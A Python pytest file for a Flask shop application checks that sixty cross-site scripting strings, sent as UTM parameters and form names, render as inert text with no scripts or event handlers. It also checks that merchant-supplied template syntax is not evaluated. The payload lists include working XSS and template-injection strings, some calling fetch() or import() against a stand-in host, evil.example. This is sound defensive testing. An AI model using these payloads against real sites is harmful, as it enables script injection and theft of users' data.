"""Sixty hostile strings as names and UTM values: on every page they are text (ASVS 1.2.1)."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient

from tests.conftest import Shop
from tests.scenarios.test_utm import open_page, send

_PAYLOADS = (
    "alert(1)",
    "alert`1`",
    "top[`al`+`ert`](1)",
    "fetch('//evil.example')",
    "import('//evil.example')",
)
_FRAMES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "javascript:{}",
    "</title><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>",
    "{{{{constructor.constructor('{}')()}}}}",
    "<!--><svg onload={}>-->",
    "\u2028<body onload={}>",
)
HOSTILE = [frame.format(payload) for frame in _FRAMES for payload in _PAYLOADS]


class _Elements(HTMLParser):
    """Everything in a page that could run: scripts, event attributes, script addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in {"iframe", "object", "embed", "base"}:
            self.dangers.append(tag)
        if tag == "script" and not (given.get("src") or "").startswith("/"):
            self.dangers.append("inline script")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.dangers.append(f"{tag} {name}")
            if name in {"href", "src", "action"} and (value or "").lower().strip().startswith(
                ("javascript:", "data:text")
            ):
                self.dangers.append(f"{tag} {name}={value}")


def dangers(page: str) -> list[str]:
    parser = _Elements()
    parser.feed(page)
    return parser.dangers


def test_there_are_sixty() -> None:
    assert len(set(HOSTILE)) == 60


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_sixty_strings_as_names_and_utm_values(alma: Shop, client: FlaskClient) -> None:
    join = alma.template("multipass")["sign_up_url"].removeprefix("http://127.0.0.1:8000")
    for number, hostile in enumerate(HOSTILE):
        path = f"{join}?" + "&".join(
            f"utm_{name}={quote(hostile)}" for name in ("source", "medium", "campaign")
        )
        page = client.get(path)
        assert dangers(page.text) == [], hostile
        form = open_page(client, path)
        # A form with a mistake shows the answers again.
        wrong = send(client, form, first_name=hostile[:100], last_name=hostile[:100], email=hostile)
        assert wrong.status_code == 422
        assert dangers(wrong.text) == [], hostile
        sent = send(
            client,
            form,
            first_name=hostile[:100],
            last_name=hostile[:100],
            email=f"h{number}@example.com",
        )
        assert sent.status_code == 303, hostile
        card = alma.get("/cards?limit=1")["items"][0]
        assert card["utm"]["source"] == hostile.replace("\u2028", "")[:150]
        install = card["links"]["install"].removeprefix("http://127.0.0.1:8000")
        for address in (sent.location, install):
            shown = client.get(address)
            assert shown.status_code == 200
            assert dangers(shown.text) == [], (address, hostile)
            assert "unsafe" not in shown.headers["Content-Security-Policy"]


def test_merchants_text_is_never_a_template(alma: Shop, client: FlaskClient) -> None:
    template = alma.template(
        "multipass",
        name="{{7*7}} <b>x</b>",
        description="{% for x in y %}",
        texts={"terms": "{{config}} <script>alert(1)</script>"},
    )
    join = template["sign_up_url"].removeprefix("http://127.0.0.1:8000")
    page = client.get(join).text
    assert "{{7*7}}" in page
    assert "49" not in page.split("<body")[1].split("</h1>")[0]
    assert dangers(page) == []
    card = alma.card(template["id"])
    page = client.get(card["links"]["pwa"].removeprefix("http://127.0.0.1:8000")).text
    assert "{{config}}" in page
    assert dangers(page) == []
